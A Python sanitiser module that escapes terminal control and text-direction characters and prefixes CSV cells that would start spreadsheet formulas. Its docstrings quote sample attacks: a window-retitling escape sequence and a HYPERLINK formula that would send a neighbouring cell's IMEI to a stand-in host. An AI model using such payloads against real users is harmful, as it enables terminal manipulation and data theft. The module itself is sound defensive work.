"""The one sanitiser for text read from a file before it reaches a terminal.

A report, an answers file, an inventory or a CSV export can hold anything,
including terminal escape sequences: ``ESC ]0;...BEL`` retitles the window and
OSC 52 writes the clipboard. ``safe`` shows every character that could act on a
terminal as a visible backslash escape instead, so the text stays readable and
inert: a line break or tab as ``\\n``, ``\\r``, ``\\t``, other C0 controls, DEL and
C1 controls as ``\\x1b``, line and paragraph
separators and the text-direction controls as ``\\u202e``.
"""

from __future__ import annotations

import re

__all__ = ["FORMULA_STARTS", "UNSAFE", "safe", "spreadsheet_cell"]

#: C0, DEL and C1 controls; line and paragraph separators; the bidirectional controls
#: (embeddings, overrides, isolates, marks), which reorder what a line shows.
UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]")


_NAMED = {"\n": "\\n", "\r": "\\r", "\t": "\\t"}


def _escape(match: re.Match[str]) -> str:
    char = match.group()
    if char in _NAMED:
        return _NAMED[char]
    code = ord(char)
    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"


def safe(text: str) -> str:
    """``text`` with every control and direction character shown as a visible escape.

    >>> safe("Ada\\x1b]0;pwned\\x07")
    'Ada\\\\x1b]0;pwned\\\\x07'
    """
    if text.isascii() and text.isprintable():
        return text
    return UNSAFE.sub(_escape, text)


#: What a spreadsheet reads as the start of a formula (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cell(value: str) -> str:
    """A CSV cell a spreadsheet shows as text: one that would start a formula gets a ``'``.

    ``=HYPERLINK("http://x/?"&C2,"click")`` would send a neighbouring cell (an IMEI)
    away when the sheet is opened; ``'=HYPERLINK(...)`` is only text.
    """
    return "'" + value if value.startswith(FORMULA_STARTS) else value
